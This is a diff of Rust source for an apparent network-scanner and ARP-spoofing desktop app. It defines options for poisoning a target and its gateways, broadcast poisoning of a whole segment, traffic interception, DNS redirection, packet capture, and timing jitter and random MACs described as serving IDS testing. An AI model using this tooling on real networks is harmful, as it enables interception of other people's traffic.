@@ -1,23 +1,52 @@
 use std::collections::HashMap;
-use std::sync::{Arc, Mutex};
-use std::thread;
-use std::time::Duration;
-use std::net::{IpAddr, Ipv4Addr};
-use std::process::Command;
+use std::ops::{Deref, DerefMut};
+use std::sync::{mpsc, Arc, Mutex};
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use std::thread::{self, JoinHandle};
+use std::time::{Duration, Instant};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
+use std::process::{Command, Stdio};
+use std::str::FromStr;
 
 use serde::{Deserialize, Serialize};
-use tauri::State;
+use tauri::{AppHandle, Emitter, State};
 use uuid::Uuid;
+use rand::rngs::StdRng;
+use rand::{Rng, SeedableRng};
 use ipnetwork::Ipv4Network;
-use if_addrs::get_if_addrs;
+use if_addrs::{get_if_addrs, IfAddr};
 use network_interface::{NetworkInterface, NetworkInterfaceConfig};
 
-// Windows API imports
-use windows::Win32::NetworkManagement::IpHelper::{
-    GetIpNetTable, MIB_IPNETTABLE, MIB_IPNET_TYPE_DYNAMIC,
-    MIB_IPNET_TYPE_STATIC, MIB_IPNET_TYPE_OTHER
+pub mod error_handler;
+mod arp_packet;
+mod arp_watch;
+mod device_type;
+mod export;
+mod hostname_cache;
+mod mdns;
+mod netbios;
+mod oui;
+mod pcap;
+mod platform;
+mod session_log;
+mod storage;
+mod traffic;
+mod wol;
+
+use arp_packet::RawArpSender;
+pub use platform::ArpEntry;
+use platform::{command_exists, CommandRunner, NetworkPlatform, SystemRunner, Current as Platform};
+use traffic::TrafficCounters;
+use pcap::PcapWriter;
+use session_log::SessionLog;
+pub use session_log::{is_session_log, LOG_DIR};
+pub use arp_watch::{ArpAnomaly, ArpAnomalyKind};
+pub use device_type::DeviceType;
+pub use export::ExportFormat;
+use error_handler::{
+    AppError, ErrorCode, config_error, interface_error, network_error, permission_error, spoofing_error,
+    system_error,
 };
-use windows::Win32::Foundation::{ERROR_INSUFFICIENT_BUFFER, NO_ERROR};
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct NetworkDevice {
@@ -25,6 +54,289 @@ pub struct NetworkDevice {
     pub mac: String,
     pub hostname: String,
     pub vendor: String,
+    /// TCP ports that accepted a connection during the port scan phase
+    #[serde(default)]
+    pub open_ports: Vec<u16>,
+    /// Discovery methods reported different MACs for this IP, a sign of ARP poisoning
+    #[serde(default)]
+    pub conflict: bool,
+    /// Guessed kind of device, for picking an icon
+    #[serde(default)]
+    pub device_type: Option<DeviceType>,
+    /// Name the user gave this device's MAC with `set_device_label`
+    #[serde(default)]
+    pub label: Option<String>,
+    /// Whether the device answered; only rechecked for cached results with `ScanOptions::verify`
+    #[serde(default = "default_online")]
+    pub online: bool,
+}
+
+/// Every device in a scan result was seen, so it was online at the time
+fn default_online() -> bool {
+    true
+}
+
+/// Address families covered by a network scan
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum ScanMode {
+    #[default]
+    Ipv4Only,
+    Ipv6Only,
+    Both,
+}
+
+impl ScanMode {
+    pub fn includes_ipv4(self) -> bool {
+        matches!(self, ScanMode::Ipv4Only | ScanMode::Both)
+    }
+
+    pub fn includes_ipv6(self) -> bool {
+        matches!(self, ScanMode::Ipv6Only | ScanMode::Both)
+    }
+}
+
+/// Upper bound for the scanner worker pool
+pub const MAX_SCAN_CONCURRENCY: usize = 256;
+
+/// Bounds for the per-port TCP connect timeout
+pub const MIN_PORT_TIMEOUT_MS: u64 = 10;
+pub const MAX_PORT_TIMEOUT_MS: u64 = 5_000;
+
+/// Shortest hard deadline accepted for a whole scan
+pub const MIN_SCAN_DURATION_MS: u64 = 1_000;
+
+/// Default worker count: four probes per available CPU
+fn default_scan_concurrency() -> usize {
+    thread::available_parallelism().map(|n| n.get()).unwrap_or(1) * 4
+}
+
+/// Worker cap picked automatically for Wi-Fi adapters, which can drop their
+/// own connection under a burst of probes
+pub const WIRELESS_SCAN_CONCURRENCY: usize = 8;
+
+/// Which discovery methods a scan runs
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default)]
+pub struct DiscoveryMethods {
+    /// Read the hosts the OS already knows from its ARP cache
+    pub arp_table: bool,
+    /// Ping every host so it answers ARP
+    pub ping_sweep: bool,
+    /// Ask the OS to resolve every host
+    pub arp_requests: bool,
+    /// Probe common TCP ports on every host; fills in `open_ports`
+    pub port_scan: bool,
+    /// Read the OS neighbor cache
+    pub neighbor_discovery: bool,
+    /// Query mDNS responders for `.local` host names
+    pub mdns: bool,
+}
+
+impl DiscoveryMethods {
+    /// Only read what the OS already knows, sending nothing to other hosts
+    pub fn passive() -> Self {
+        Self {
+            arp_table: true,
+            ping_sweep: false,
+            arp_requests: false,
+            port_scan: false,
+            neighbor_discovery: true,
+            mdns: false,
+        }
+    }
+    
+    /// How many methods are turned on
+    pub fn enabled_count(&self) -> u32 {
+        [
+            self.arp_table,
+            self.ping_sweep,
+            self.arp_requests,
+            self.port_scan,
+            self.neighbor_discovery,
+            self.mdns,
+        ]
+        .iter()
+        .filter(|enabled| **enabled)
+        .count() as u32
+    }
+}
+
+impl Default for DiscoveryMethods {
+    /// Everything but the port scan, which is slow and the noisiest probe
+    fn default() -> Self {
+        Self {
+            arp_table: true,
+            ping_sweep: true,
+            arp_requests: true,
+            port_scan: false,
+            neighbor_discovery: true,
+            mdns: true,
+        }
+    }
+}
+
+/// Tunable parameters for a network scan
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ScanOptions {
+    /// Maximum number of probe threads running at once; picked from the CPU
+    /// count and the interface type when unset
+    pub max_concurrency: Option<usize>,
+    /// How long to wait for each TCP connection during the port scan
+    pub port_timeout_ms: u64,
+    /// Discovery methods to run
+    pub methods: DiscoveryMethods,
+    /// Reuse a cached result for the interface if it is younger than this; 0 disables the cache
+    pub max_age_secs: u64,
+    /// Ignore any cached result and run a full scan
+    pub force_refresh: bool,
+    /// When a cached result is returned, rescan in the background and emit `scan-refreshed`
+    pub background_refresh: bool,
+    /// When a cached result is returned, ping its devices to update their `online` flag
+    pub verify: bool,
+    /// First address to scan, e.g. `192.168.1.1`; the network's first host when unset
+    pub start_host: Option<Ipv4Addr>,
+    /// Last address to scan; the network's last host when unset
+    pub end_host: Option<Ipv4Addr>,
+    /// Cancel the scan once it has run this long and return what was found so far
+    pub max_duration_ms: Option<u64>,
+    /// List this machine among the devices found
+    pub include_self: bool,
+    /// List the default gateway among the devices found
+    pub include_gateway: bool,
+    /// DNS server to retry reverse lookups against when the system resolver
+    /// has no name for a device, e.g. the router
+    pub dns_server: Option<IpAddr>,
+}
+
+impl Default for ScanOptions {
+    fn default() -> Self {
+        Self {
+            max_concurrency: None,
+            port_timeout_ms: 200,
+            methods: DiscoveryMethods::default(),
+            max_age_secs: 30,
+            force_refresh: false,
+            background_refresh: false,
+            verify: false,
+            start_host: None,
+            end_host: None,
+            max_duration_ms: None,
+            include_self: true,
+            include_gateway: true,
+            dns_server: None,
+        }
+    }
+}
+
+impl ScanOptions {
+    /// Check that `start_host` and `end_host` lie in `network` and are in order
+    pub fn validate_host_range(&self, network: Ipv4Network) -> Result<(), AppError> {
+        for host in [self.start_host, self.end_host].into_iter().flatten() {
+            validate_host_ip(host)?;
+            if !network.contains(host) {
+                return Err(config_error(
+                    &format!("Host {} is outside the scanned network {}", host, network),
+                    None,
+                ));
+            }
+        }
+        if let (Some(start), Some(end)) = (self.start_host, self.end_host) {
+            if start > end {
+                return Err(config_error(
+                    &format!("Invalid host range: {} comes after {}", start, end),
+                    None,
+                ));
+            }
+        }
+        Ok(())
+    }
+    
+    /// Worker count for a scan through `interface_name`: `max_concurrency`
+    /// if set, otherwise the default, capped on Wi-Fi adapters
+    pub fn scan_concurrency(&self, interface_name: &str) -> usize {
+        if let Some(max_concurrency) = self.max_concurrency {
+            return max_concurrency;
+        }
+        
+        let default = default_scan_concurrency();
+        match Platform::is_wireless(interface_name) {
+            Ok(true) => default.min(WIRELESS_SCAN_CONCURRENCY),
+            Ok(false) => default,
+            Err(e) => {
+                eprintln!("Failed to detect the media type of {}: {}", interface_name, e);
+                default
+            }
+        }
+    }
+    
+    /// Whether only part of the network is scanned or listed, so the result
+    /// can't stand in for a full scan
+    pub fn limits_hosts(&self) -> bool {
+        self.start_host.is_some() || self.end_host.is_some() || !self.include_self || !self.include_gateway
+    }
+    
+    /// Whether `ip` lies within `start_host..=end_host`
+    fn in_host_range(&self, ip: Ipv4Addr) -> bool {
+        self.start_host.map_or(true, |start| ip >= start) && self.end_host.map_or(true, |end| ip <= end)
+    }
+    
+    pub fn validate(&self) -> Result<(), AppError> {
+        if let Some(max_concurrency) = self.max_concurrency {
+            if max_concurrency == 0 || max_concurrency > MAX_SCAN_CONCURRENCY {
+                return Err(config_error(
+                    &format!(
+                        "Invalid scan concurrency {}: must be between 1 and {}",
+                        max_concurrency, MAX_SCAN_CONCURRENCY
+                    ),
+                    None,
+                ));
+            }
+        }
+        if self.port_timeout_ms < MIN_PORT_TIMEOUT_MS || self.port_timeout_ms > MAX_PORT_TIMEOUT_MS {
+            return Err(config_error(
+                &format!(
+                    "Invalid port timeout {}ms: must be between {}ms and {}ms",
+                    self.port_timeout_ms, MIN_PORT_TIMEOUT_MS, MAX_PORT_TIMEOUT_MS
+                ),
+                None,
+            ));
+        }
+        if self.methods == (DiscoveryMethods {
+            arp_table: false,
+            ping_sweep: false,
+            arp_requests: false,
+            port_scan: false,
+            neighbor_discovery: false,
+            mdns: false,
+        }) {
+            return Err(config_error("No discovery methods enabled", None));
+        }
+        if let Some(max_duration_ms) = self.max_duration_ms {
+            if max_duration_ms < MIN_SCAN_DURATION_MS {
+                return Err(config_error(
+                    &format!(
+                        "Invalid maximum scan duration {}ms: must be at least {}ms",
+                        max_duration_ms, MIN_SCAN_DURATION_MS
+                    ),
+                    None,
+                ));
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Progress update emitted as `scan-progress` after each enabled scan phase
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScanProgress {
+    pub phase: String,
+    pub completed: u32,
+    /// Number of enabled discovery methods
+    pub total: u32,
+    pub devices_found: u32,
+    /// The phase did not run, because the scan was cancelled or had nothing left for it
+    pub skipped: bool,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -33,649 +345,4879 @@ pub struct CustomNetworkInterface {
     pub description: String,
     pub mac: String,
     pub ips: Vec<String>,
+    /// IPv6 addresses; link-local ones (`fe80::/10`) only when requested
+    #[serde(default)]
+    pub ipv6s: Vec<String>,
+    /// Hypervisor, container or VPN adapter that can't reach the physical LAN
+    pub is_virtual: bool,
+    /// Operational status reported by the adapter
+    pub is_up: bool,
+    /// Negotiated link speed, if the adapter reports one
+    pub speed_mbps: Option<u64>,
+}
+
+/// Result of a single ICMP echo
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PingResult {
+    pub reachable: bool,
+    pub rtt_ms: Option<u32>,
+}
+
+/// Lifecycle state of a spoofing session
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum SessionState {
+    Active,
+    Paused,
+    Stopped,
+}
+
+/// Which of the target's traffic a session intercepts
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum InterceptMode {
+    /// Everything passes through this machine
+    #[default]
+    Full,
+    /// Forwarding relays the traffic, except DNS queries (UDP 53), which are
+    /// redirected to a resolver on this machine for inspection
+    DnsOnly,
+}
+
+/// How a session gets its poisoned mappings to the target and gateways
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum SpoofMethod {
+    /// Forged ARP replies sent as raw Ethernet frames
+    #[default]
+    RawFrames,
+    /// Static entries in the local ARP cache, used when no capture device or
+    /// packet socket is available; only this machine's view is changed
+    StaticArp,
+}
+
+/// Whom the poisoned replies are sent to
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum SpoofStrategy {
+    /// Unicast replies to the target and to each gateway
+    #[default]
+    Unicast,
+    /// One gratuitous ARP broadcast per gateway claiming its IP, poisoning
+    /// every host on the segment at once. Needs raw frames; the gateways
+    /// themselves are not told where the target is.
+    GratuitousBroadcast,
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct SpoofingSession {
     pub id: String,
     pub target_ip: String,
+    /// The first gateway, kept for clients that only know about one
     pub gateway_ip: String,
+    /// Every gateway poisoned by this session, `gateway_ip` first
+    #[serde(default)]
+    pub gateway_ips: Vec<String>,
     pub interface: String,
+    /// Real MAC of the target, learned before poisoning started
+    #[serde(default)]
+    pub target_mac: Option<String>,
+    /// Real MAC of `gateway_ip`, learned before poisoning started
+    #[serde(default)]
+    pub gateway_mac: Option<String>,
+    /// False once the session is stopped; paused sessions remain active
     pub is_active: bool,
+    pub state: SessionState,
     pub packets_sent: u32,
+    pub forwarding: bool,
+    pub interval_ms: u64,
+    /// Times each poisoned reply is sent per round
+    #[serde(default = "default_packets_per_round")]
+    pub packets_per_round: u8,
+    #[serde(default)]
+    pub intercept: InterceptMode,
+    #[serde(default)]
+    pub method: SpoofMethod,
+    #[serde(default)]
+    pub strategy: SpoofStrategy,
+    /// File the target's relayed packets are saved to
+    #[serde(default)]
+    pub capture_path: Option<String>,
+    /// This session's own log file, when `session_log` was set
+    #[serde(default)]
+    pub log_path: Option<String>,
+    /// MAC the poisoned replies claim to come from
+    #[serde(default)]
+    pub source_mac: String,
+    /// Unix time in milliseconds when the session was started
+    #[serde(default)]
+    pub started_at: u64,
+    /// Unix time in milliseconds when the session was stopped
+    #[serde(default)]
+    pub stopped_at: Option<u64>,
+    /// Seconds the session has been running; filled in by `get_active_sessions`
+    #[serde(default)]
+    pub uptime_secs: u64,
+    /// Average send rate over the session's lifetime; filled in by `get_active_sessions`
+    #[serde(default)]
+    pub packets_per_second: f64,
+    /// Bytes relayed from the target while forwarding
+    #[serde(default)]
+    pub bytes_up: u64,
+    /// Bytes relayed to the target while forwarding
+    #[serde(default)]
+    pub bytes_down: u64,
 }
 
-#[derive(Default)]
-pub struct SpoofingSessions(Arc<Mutex<HashMap<String, SpoofingSessionInfo>>>);
+impl SpoofingSession {
+    /// Fill in the derived `uptime_secs` and `packets_per_second` fields
+    fn update_stats(&mut self, now: u64) {
+        let end = self.stopped_at.unwrap_or(now);
+        let elapsed_ms = end.saturating_sub(self.started_at);
+        
+        self.uptime_secs = elapsed_ms / 1000;
+        self.packets_per_second = if elapsed_ms > 0 {
+            self.packets_sent as f64 * 1000.0 / elapsed_ms as f64
+        } else {
+            0.0
+        };
+    }
+    
+    /// Gateways of the session; sessions saved before multi-gateway support only have `gateway_ip`
+    fn gateways(&self) -> Vec<&str> {
+        if self.gateway_ips.is_empty() {
+            vec![self.gateway_ip.as_str()]
+        } else {
+            self.gateway_ips.iter().map(String::as_str).collect()
+        }
+    }
+}
 
-#[derive(Debug)]
-pub struct SpoofingSessionInfo {
-    pub session: SpoofingSession,
-    pub stop_flag: Arc<Mutex<bool>>,
+/// Sessions saved before `packets_per_round` existed sent each reply once
+fn default_packets_per_round() -> u8 {
+    1
 }
 
-impl SpoofingSessions {
-    pub fn inner(&self) -> Arc<Mutex<HashMap<String, SpoofingSessionInfo>>> {
-        self.0.clone()
-    }
+/// Current Unix time in milliseconds
+fn now_millis() -> u64 {
+    chrono::Utc::now().timestamp_millis().max(0) as u64
 }
 
-pub fn get_interfaces() -> Result<Vec<CustomNetworkInterface>, String> {
-    let mut interfaces = Vec::new();
-    
-    // Get all network interfaces using if-addrs
-    let if_addrs = get_if_addrs().map_err(|e| format!("Failed to get interfaces: {}", e))?;
-    
-    // Group interfaces by name
-    let mut interface_map: HashMap<String, Vec<IpAddr>> = HashMap::new();
-    
-    for iface in if_addrs {
-        if iface.is_loopback() {
-            continue;
-        }
-        
-        // Only include IPv4 addresses that are not link-local
-        if let IpAddr::V4(ipv4) = iface.ip() {
-            if !ipv4.is_link_local() && !ipv4.is_loopback() {
-                interface_map.entry(iface.name.clone())
-                    .or_insert_with(Vec::new)
-                    .push(iface.ip());
-            }
+/// Bounds for the delay between poisoning rounds
+pub const MIN_SPOOF_INTERVAL_MS: u64 = 10;
+pub const MAX_SPOOF_INTERVAL_MS: u64 = 60_000;
+
+/// Upper bound for `SpoofingOptions::jitter_percent`
+pub const MAX_JITTER_PERCENT: u8 = 90;
+
+/// Upper bound for `SpoofingOptions::packets_per_round`
+pub const MAX_PACKETS_PER_ROUND: u8 = 10;
+
+/// Pause between repeats of the same poisoned reply within a round
+const PACKET_REPEAT_GAP: Duration = Duration::from_millis(5);
+
+/// Default size cap of a session's capture file (100 MiB)
+pub const DEFAULT_CAPTURE_MAX_BYTES: u64 = 100 * 1024 * 1024;
+
+/// `SpoofingOptions::source_mac` value asking for a random MAC
+pub const RANDOM_SOURCE_MAC: &str = "random";
+
+/// Tunable parameters for a spoofing session
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct SpoofingOptions {
+    /// Relay intercepted traffic so the target keeps its connectivity
+    pub forward_traffic: bool,
+    /// Delay between poisoning rounds
+    pub interval_ms: u64,
+    /// Send each poisoned reply this many times per round, for targets that
+    /// only accept a mapping after seeing it repeatedly
+    pub packets_per_round: u8,
+    /// Run the preflight checks and report on them without starting a session
+    pub dry_run: bool,
+    /// Start a new session even if one is already running for the same target
+    pub force: bool,
+    /// Which of the target's traffic to intercept
+    pub intercept: InterceptMode,
+    /// MAC to send the poisoned replies from instead of the interface's, or
+    /// `"random"` for a fresh locally administered one. Traffic the target
+    /// sends to it never reaches this machine's network stack, so it is not
+    /// relayed and forwarding, capture and DNS-only interception are refused
+    /// with it; meant for testing how an IDS reacts to MAC anomalies.
+    pub source_mac: Option<String>,
+    /// Vary each delay between rounds randomly by up to this percentage of
+    /// `interval_ms`, so the timing is less regular for detection testing
+    pub jitter_percent: u8,
+    /// Seed for the jitter, to replay the same timing; random when unset
+    pub jitter_seed: Option<u64>,
+    /// Send the two poisoned replies of each round in random order
+    pub shuffle_sends: bool,
+    /// Poison the target and gateways with unicast replies, or the whole segment with broadcasts
+    pub strategy: SpoofStrategy,
+    /// Save the target's relayed packets to this `.pcap` file; needs forwarding
+    pub capture_path: Option<String>,
+    /// Stop saving packets once the capture file reaches this many bytes
+    pub capture_max_bytes: u64,
+    /// Also log the session's sends, errors and lifecycle to its own
+    /// `logs/session-<id>.log`
+    pub session_log: bool,
+}
+
+impl Default for SpoofingOptions {
+    fn default() -> Self {
+        Self {
+            forward_traffic: true,
+            interval_ms: 500,
+            packets_per_round: 1,
+            dry_run: false,
+            force: false,
+            intercept: InterceptMode::Full,
+            source_mac: None,
+            jitter_percent: 0,
+            jitter_seed: None,
+            shuffle_sends: false,
+            strategy: SpoofStrategy::Unicast,
+            capture_path: None,
+            capture_max_bytes: DEFAULT_CAPTURE_MAX_BYTES,
+            session_log: false,
         }
     }
-    
-    // Get additional interface information using network-interface crate
-    let network_interfaces = NetworkInterface::show().map_err(|e| format!("Failed to get network interfaces: {}", e))?;
-    
-    for (name, ips) in interface_map {
-        if ips.is_empty() {
-            continue;
-        }
-        
-        // Find matching network interface for MAC address
-        let mac_addr = network_interfaces.iter()
-            .find(|ni| ni.name == name)
-            .and_then(|ni| ni.mac_addr.as_ref())
-            .map(|mac| mac.to_string())
-            .unwrap_or_else(|| "00:00:00:00:00:00".to_string());
-        
-        let ip_strings: Vec<String> = ips.iter().map(|ip| ip.to_string()).collect();
-        
-        let custom_interface = CustomNetworkInterface {
-            name: name.clone(),
-            description: format!("{} - {}", name, ip_strings.join(", ")),
-            mac: mac_addr,
-            ips: ip_strings,
+}
+
+/// Outcome of a single preflight check
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PreflightCheck {
+    pub name: String,
+    pub passed: bool,
+    pub message: String,
+}
+
+/// Result of a dry run: every check that was performed and the MACs it resolved
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PreflightReport {
+    pub passed: bool,
+    pub checks: Vec<PreflightCheck>,
+    pub target_mac: Option<String>,
+    pub gateway_mac: Option<String>,
+}
+
+impl PreflightReport {
+    fn record<T>(&mut self, name: &str, result: Result<T, AppError>, success: &str) -> Option<T> {
+        let (passed, message, value) = match result {
+            Ok(value) => (true, success.to_string(), Some(value)),
+            Err(e) => match e.details() {
+                Some(details) => (false, format!("{}: {}", e.message(), details), None),
+                None => (false, e.message(), None),
+            },
         };
         
-        interfaces.push(custom_interface);
+        self.passed &= passed;
+        self.checks.push(PreflightCheck { name: name.to_string(), passed, message });
+        value
     }
-    
-    if interfaces.is_empty() {
-        return Err("No suitable network interfaces found".to_string());
+}
+
+/// What an interface can do, as probed by `test_interface`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct InterfaceCapabilities {
+    /// The ARP table can be read, which scans and MAC lookups rely on
+    pub can_read_arp: bool,
+    /// Poisoned replies can be sent, as raw frames or through static ARP entries
+    pub can_send_arp: bool,
+    pub is_elevated: bool,
+    /// How a session would send on this interface; unset when it can't
+    pub method: Option<SpoofMethod>,
+}
+
+/// Outcome of one environment check of `system_healthcheck`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct HealthCheck {
+    pub name: String,
+    pub passed: bool,
+    pub message: String,
+    /// Kind of error the failure causes elsewhere; unset when the check passed
+    pub code: Option<ErrorCode>,
+    /// What the user can do to fix a failed check
+    pub remediation: Option<String>,
+}
+
+/// Whether the environment is ready for scanning and spoofing
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct HealthReport {
+    /// True when every check passed
+    pub ready: bool,
+    pub checks: Vec<HealthCheck>,
+}
+
+impl HealthReport {
+    fn record(&mut self, name: &str, result: Result<String, AppError>, remediation: &str) {
+        let check = match result {
+            Ok(message) => HealthCheck {
+                name: name.to_string(),
+                passed: true,
+                message,
+                code: None,
+                remediation: None,
+            },
+            Err(e) => HealthCheck {
+                name: name.to_string(),
+                passed: false,
+                message: e.message(),
+                code: Some(e.code()),
+                remediation: Some(remediation.to_string()),
+            },
+        };
+        
+        self.ready &= check.passed;
+        self.checks.push(check);
     }
-    
-    Ok(interfaces)
 }
 
-pub fn scan_network(interface_name: String) -> Result<Vec<NetworkDevice>, String> {
-    // Get the interface information
-    let interfaces = get_interfaces()?;
-    let interface = interfaces.iter()
-        .find(|iface| iface.name == interface_name)
-        .ok_or_else(|| format!("Interface '{}' not found", interface_name))?;
-    
-    // Get the first IPv4 address from the interface
-    let local_ip_str = interface.ips.first()
-        .ok_or_else(|| "No IPv4 address found on interface".to_string())?;
-    
-    let local_ip: Ipv4Addr = local_ip_str.parse()
-        .map_err(|e| format!("Invalid IP address: {}", e))?;
-    
-    // Create network range (assuming /24 subnet)
-    let network = Ipv4Network::new(local_ip, 24)
-        .map_err(|e| format!("Failed to create network: {}", e))?;
-    
-    // Perform Windows API-based ARP scan
-    perform_windows_arp_scan(network, &interface.mac)
+/// What `start_spoofing` produced: a running session, or a report for a dry run
+#[derive(Debug, Clone, Serialize)]
+#[serde(untagged)]
+pub enum SpoofingStart {
+    Started(String),
+    DryRun(PreflightReport),
 }
 
-fn perform_windows_arp_scan(network: Ipv4Network, local_mac: &str) -> Result<Vec<NetworkDevice>, String> {
-    let mut devices = HashMap::new();
-    let local_ip = network.ip();
-    
-    println!("Starting comprehensive network scan for {}", network);
-    
-    // Method 1: Read existing ARP table first
-    if let Ok(arp_entries) = get_windows_arp_table() {
-        for entry in arp_entries {
-            let ip: Ipv4Addr = entry.ip.parse().unwrap_or_else(|_| Ipv4Addr::new(0, 0, 0, 0));
-            if network.contains(ip) && ip != local_ip {
-                devices.insert(entry.ip.clone(), (entry.mac, "ARP Table".to_string()));
+impl SpoofingOptions {
+    pub fn validate(&self) -> Result<(), AppError> {
+        if self.interval_ms < MIN_SPOOF_INTERVAL_MS || self.interval_ms > MAX_SPOOF_INTERVAL_MS {
+            return Err(config_error(
+                &format!(
+                    "Invalid spoofing interval {}ms: must be between {}ms and {}ms",
+                    self.interval_ms, MIN_SPOOF_INTERVAL_MS, MAX_SPOOF_INTERVAL_MS
+                ),
+                None,
+            ));
+        }
+        if self.packets_per_round == 0 || self.packets_per_round > MAX_PACKETS_PER_ROUND {
+            return Err(config_error(
+                &format!(
+                    "Invalid packets per round {}: must be between 1 and {}",
+                    self.packets_per_round, MAX_PACKETS_PER_ROUND
+                ),
+                None,
+            ));
+        }
+        if self.jitter_percent > MAX_JITTER_PERCENT {
+            return Err(config_error(
+                &format!(
+                    "Invalid jitter {}%: must be at most {}%",
+                    self.jitter_percent, MAX_JITTER_PERCENT
+                ),
+                None,
+            ));
+        }
+        if let Some(source_mac) = &self.source_mac {
+            if !source_mac.eq_ignore_ascii_case(RANDOM_SOURCE_MAC) {
+                let bytes = arp_packet::parse_mac(source_mac.trim())
+                    .ok_or_else(|| config_error("Invalid source MAC", Some(source_mac)))?;
+                if bytes == [0u8; 6] || bytes[0] & 0x01 != 0 {
+                    return Err(config_error("Source MAC must be a unicast address", Some(source_mac)));
+                }
             }
         }
+        if self.intercept == InterceptMode::DnsOnly && !Platform::DNS_REDIRECT_SUPPORTED {
+            return Err(config_error(
+                "DNS-only interception is not supported on this platform",
+                Some("Use full interception instead"),
+            ));
+        }
+        if self.intercept == InterceptMode::DnsOnly && !self.forward_traffic {
+            return Err(config_error(
+                "DNS-only interception needs traffic forwarding",
+                Some("Everything but DNS is relayed through IP forwarding"),
+            ));
+        }
+        if self.capture_path.is_some() {
+            if !self.forward_traffic {
+                return Err(config_error(
+                    "Packet capture needs traffic forwarding",
+                    Some("Only relayed packets are captured"),
+                ));
+            }
+            if self.capture_max_bytes == 0 {
+                return Err(config_error("The capture size limit must be greater than zero", None));
+            }
+        }
+        Ok(())
     }
+}
+
+#[derive(Default)]
+pub struct SpoofingSessions(Arc<Mutex<SessionTable>>);
+
+/// Spoofing sessions by id, plus the starts still being prepared. Looking for
+/// a running session, checking the session limit and reserving a new session
+/// happen under one lock, so parallel starts can't all get through.
+#[derive(Default)]
+pub struct SessionTable {
+    sessions: HashMap<String, SpoofingSessionInfo>,
+    /// Starts reserved by `reserve` whose session is not inserted yet
+    pending: Vec<PendingSession>,
+}
+
+/// A start between `SessionTable::reserve` and the insert of its session
+struct PendingSession {
+    session_id: String,
+    target_ip: String,
+    interface: String,
+}
+
+impl Deref for SessionTable {
+    type Target = HashMap<String, SpoofingSessionInfo>;
     
-    // Method 2: Aggressive ping sweep with multiple techniques
-    println!("Performing ping sweep...");
-    perform_aggressive_ping_sweep(network)?;
-    
-    // Method 3: ARP requests using Windows commands
-    println!("Sending ARP requests...");
-    perform_arp_requests(network)?;
+    fn deref(&self) -> &Self::Target {
+        &self.sessions
+    }
+}
+
+impl DerefMut for SessionTable {
+    fn deref_mut(&mut self) -> &mut Self::Target {
+        &mut self.sessions
+    }
+}
+
+impl SessionTable {
+    /// Id of a session that is not stopped, or of a start in progress, that
+    /// targets `target_ip` on `interface_name`
+    fn find_running(&self, target_ip: &str, interface_name: &str) -> Option<String> {
+        let running = self.sessions.iter()
+            .find(|(_, info)| {
+                info.session.state != SessionState::Stopped
+                    && info.session.target_ip == target_ip
+                    && info.session.interface == interface_name
+            })
+            .map(|(id, _)| id.clone());
+        
+        running.or_else(|| {
+            self.pending.iter()
+                .find(|pending| pending.target_ip == target_ip && pending.interface == interface_name)
+                .map(|pending| pending.session_id.clone())
+        })
+    }
     
-    // Method 4: Port scanning on common ports to trigger responses
-    println!("Performing port scan on common ports...");
-    perform_port_scan(network)?;
+    /// Sessions that are not stopped plus starts in progress, which count towards the session limit
+    fn running_count(&self) -> usize {
+        let running = self.sessions.values()
+            .filter(|info| info.session.state != SessionState::Stopped)
+            .count();
+        running + self.pending.len()
+    }
     
-    // Wait for network responses
-    thread::sleep(Duration::from_secs(3));
+    /// Reserve a new session on `target_ip` until it is prepared, unless the
+    /// session limit is reached. Returns its id.
+    fn reserve(&mut self, target_ip: &str, interface_name: &str) -> Result<String, AppError> {
+        let limit = max_concurrent_sessions();
+        if self.running_count() >= limit {
+            return Err(system_error(
+                &format!("Already running the maximum of {} sessions", limit),
+                Some("Stop a session or raise the session limit"),
+            ));
+        }
+        
+        let session_id = Uuid::new_v4().to_string();
+        self.pending.push(PendingSession {
+            session_id: session_id.clone(),
+            target_ip: target_ip.to_string(),
+            interface: interface_name.to_string(),
+        });
+        Ok(session_id)
+    }
     
-    // Read ARP table again after aggressive scanning
-    if let Ok(arp_entries) = get_windows_arp_table() {
-        for entry in arp_entries {
-            let ip: Ipv4Addr = entry.ip.parse().unwrap_or_else(|_| Ipv4Addr::new(0, 0, 0, 0));
-            if network.contains(ip) && ip != local_ip {
-                devices.insert(entry.ip.clone(), (entry.mac, "ARP Scan".to_string()));
+    /// Drop a reservation, once its session is inserted or failed to prepare
+    fn release(&mut self, session_id: &str) {
+        self.pending.retain(|pending| pending.session_id != session_id);
+    }
+}
+
+#[derive(Debug)]
+pub struct SpoofingSessionInfo {
+    pub session: SpoofingSession,
+    pub stop_flag: Arc<Mutex<bool>>,
+    /// True when IP forwarding was off before this session turned it on
+    pub enabled_forwarding: bool,
+    /// Relayed traffic totals for the target
+    pub traffic: Arc<TrafficCounters>,
+    /// Real MAC of the target, resolved before poisoning started
+    pub target_mac: String,
+    /// Real MACs of the gateways, in the order of `session.gateway_ips`
+    pub gateway_macs: Vec<String>,
+    /// Disconnected once the spoofing thread has restored the target's ARP
+    /// entries; waited on when the session is stopped. The thread itself may
+    /// be shared with other sessions started by `start_spoof_all`.
+    pub spoof_done: Option<mpsc::Receiver<()>>,
